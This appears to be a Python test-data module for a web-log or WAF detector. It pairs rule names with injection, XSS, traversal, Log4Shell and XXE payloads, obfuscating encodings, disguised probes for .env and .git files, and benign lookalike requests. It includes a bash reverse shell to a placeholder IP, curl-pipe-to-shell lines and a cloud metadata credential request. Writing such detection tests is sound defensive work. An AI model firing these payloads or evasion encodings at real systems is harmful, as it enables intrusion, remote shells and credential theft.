"""What attackers do to a request so that filters overlook it, and what innocent ones look like."""

from __future__ import annotations

from typing import TYPE_CHECKING
from urllib.parse import quote

from .weblogs import balancer, front, gateway, line, waf

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping

ATTACKS: Mapping[str, tuple[str, ...]] = {
    "SQL injection": (
        "1' UNION SELECT a,b FROM c-- -",
        "1'/**/UNION/**/SELECT/**/1,2,3",
        "1 uNiOn/*!50000SeLeCt*/ 1,2",
        "1' UNION ALL\nSELECT null,null-- ",
        "1'||(SELECT SLEEP(5))||'",
        "1') OR ('1'='1",
        "' or true--",
        "1 && 1=1",
        "1;WAITFOR DELAY '0:0:5'--",
        "1 AND ROW(1,1)>(SELECT COUNT(*),1)",
        "1' AND EXISTS(SELECT 1)-- ",
        "'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z",
    ),
    "Cross-site scripting": (
        "<ScRiPt>x()</ScRiPt>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert`1`>",
        "\" autofocus onfocus=alert(1) x=\"",
        "jAvAsCrIpT:alert(1)",
        "<details/open/ontoggle=confirm(1)>",
        "<meta http-equiv=refresh content=0;url=//x>",
    ),
    "Path traversal": (
        "../../../../opt/x",
        "..\\..\\..\\x",
        "....//....//x",
        "..//..//..//x",
    ),
    "Template injection": (
        "{{7*7}}",
        "${7*7}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{{=7*7}}",
        "{%print(7*7)%}",
        "*{7*7}",
    ),
    "Command injection": (
        "x;cat /opt/x;",
        "|id",
        "||whoami",
        "&& ls -la /opt",
        "$(curl x.example|sh)",
        "a;curl${IFS}x.example",
        "; bash -i >& /dev/tcp/203.0.113.91/4444 0>&1",
        "|base64 -d|sh",
        "x; /usr/bin/id",
    ),
    "Request for the instance metadata": ("http://169.254.169.254/latest/meta-data/iam/",),
    "JNDI lookup (Log4Shell)": (
        "${jndi:ldap://x/a}",
        "${${lower:j}ndi:ldap://x}",
        "${${::-j}${::-n}di:rmi://x}",
        "${j${k8s:k5:-ND}i:x}",
    ),
    "NoSQL injection": ('{"$ne":null}', "';return true;var x='"),
    "LDAP injection": ("*)(uid=*))(|(uid=*", "admin)(&)"),
    "XML that loads something from elsewhere": ('<!DOCTYPE x [<!ENTITY y SYSTEM "file:///x">]>',),
}  # fmt: skip
"""Rule -> payloads that it has to recognise, however they are spelled."""


def _percent(text: str) -> str:
    return quote(text, safe="/")


ENCODINGS: Mapping[str, Callable[[str], str]] = {
    "once": _percent,
    "once, and every letter": lambda text: "".join(f"%{byte:02x}" for byte in text.encode()),
    "once, in capitals": lambda text: "".join(f"%{byte:02X}" for byte in text.upper().encode()),
    "twice": lambda text: _percent(_percent(text)),
}
HARDER: Mapping[str, Callable[[str], str]] = {
    "three times": lambda text: _percent(_percent(_percent(text))),
    "as old scripts do": lambda text: "".join(
        char if char.isalnum() else f"%u{ord(char):04x}" for char in text
    ),
}
"""What is told by the way it is spelled, whatever it is."""

QUERIES: Mapping[str, Callable[[str], bytes]] = {
    "AWS WAF": lambda text: waf(f"/get?x={text}"),
    "load balancer": lambda text: balancer(f"/get?x={text}"),
    "CloudFront": lambda text: front(f"/get?x={text}"),
    "access log": lambda text: line(f"/get?x={text}"),
}
PATHS: Mapping[str, Callable[[str], bytes]] = {
    "AWS WAF": lambda text: waf(f"/get/{text}"),
    "API Gateway": lambda text: gateway(f"/get/{text}"),
    "CloudFront": lambda text: front(f"/get/{text}"),
    "access log": lambda text: line(f"/get/{text}"),
}

DISGUISED = {
    "WordPress set-up or user list requested": (
        *("//wp-admin/install.php", "/WP-CONFIG.PHP.BAK", "/%77p-config.php~"),
    ),
    "Database admin page requested": ("/%70hpMyAdmin/", "//pma//", "/phpmyadmin;x/"),
    "Environment or credential file requested": (
        *("/.env;.css", "/%2eenv", "/.%65nv", "/%252eenv", "//.env", "/static/.env?x=1", "/.ENV"),
    ),
    "Git or other repository data requested": ("/.git//config", "/%2egit/HEAD", "/x/.GIT/HEAD"),
    "Backup, dump or archive requested": ("/BACKUP.ZIP", "/shop%2esql", "/index.php%7e"),
    "Path traversal": (
        *("/static/..%2f..%2fapp.py", "/..%c0%af..%c0%afx", "/%2e%2e/%2e%2e/x", "/.%2e/.%2e/x"),
        *("/%c0%ae%c0%ae/x", "/..;/..;/x", "/a/..%252f..%252fx", "/..%e0%80%afx", "/.%%32%65/x"),
    ),
    "Command injection": ("/ping?host=x%0aid", "/ping?host=x%250auname%2520-a%250a"),
}  # fmt: skip
"""Rule -> requests for the same thing under other spellings."""

INNOCENT = (
    *("/search?q=rock+%26%26+roll", "/search?q=salt+or+pepper", "/search?q=it%27s+true+or+false"),
    *("/search?q=select+your+seat+from+the+map", "/search?q=drop+table+lamp%3B+insert+coin"),
    *("/search?q=C%2B%2B+%3C%3E+operator", "/search?q=%7B%7Bname%7D%7D", "/search?q=%24%7Bname%7D"),
    *("/%7B%7B%20product.url%20%7D%7D", "/search?q=how+to+sleep(better)", "/search?q=echo+dot"),
    *("/search?q=cat+food%3B+dog+food", "/search?q=cat+%7C+dog", "/search?q=1+and+1"),
    *("/search?q=5%27+10%22+tall", "/search?q=rock+'n'+roll", "/search?q=the+'90s'+or+the+'80s'"),
    *("/search?q=smile%20%3B)", "/search?q=%E6%9D%A5%E5%87%BA", "/search?q=%C3%A0+la+plage"),
    *("/comment?text=one%0D%0Atwo", "/comment?text=hello%0acats+are+nice", "/x?y=%0aidea"),
    *("/api/articles?filters[title][$eq]=x&populate=*", "/api/users?age[$gt]=3&$limit=10"),
    "/oauth/authorize?client_id=x&redirect_uri=http%3A%2F%2Flocalhost%3A8080%2Fcallback",
    "/go?url=https%3A%2F%2Fwww.example.com%2F%3Fnext%3D%252Fa%253Fb%253Dc",
    "/graphql?query=query($id:ID!){node(id:$id){...F}}&variables=%7B%22id%22:%221%22%7D",
    "/odata/Orders?$filter=Name%20eq%20%27O%27%27Neil%27%20or%20Id%20eq%201",
    "/jira/search?jql=project%20%3D%20X%20AND%20status%20%3D%20%22Open%22%20ORDER%20BY%20created",
    "/loki/query?query=%7Bapp%3D%22x%22%7D%20%7C%3D%20%22error%22",
    "/prom/query?query=sum(rate(x%5B5m%5D))%20or%20vector(0)",
    *("/a;jsessionid=AB12?x=1", "/shop/item;color=red;size=xl", "/compare/main...feature"),
    *("/wp-content/uploads/photo.jpg", "/.well-known/acme-challenge/abc", "/?author=anna"),
    *("/_next/static/chunks/pages/%5Bslug%5D-1a2b.js", "/static/js/vendors~main.chunk.js"),
    *("/docs/sql/select-from-where", "/docs/linux/bin-bash", "/seashell.php", "/go?onload=true"),
    *("/robots.txt", "/sitemap.xml", "/favicon.ico", "/health", "/api/v1/status?probe=1"),
    "/img?data=data:image/png;base64,iVBORw0KGgo=",
    "/p?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-_x",
)
"""Requests of people, pages and monitors."""
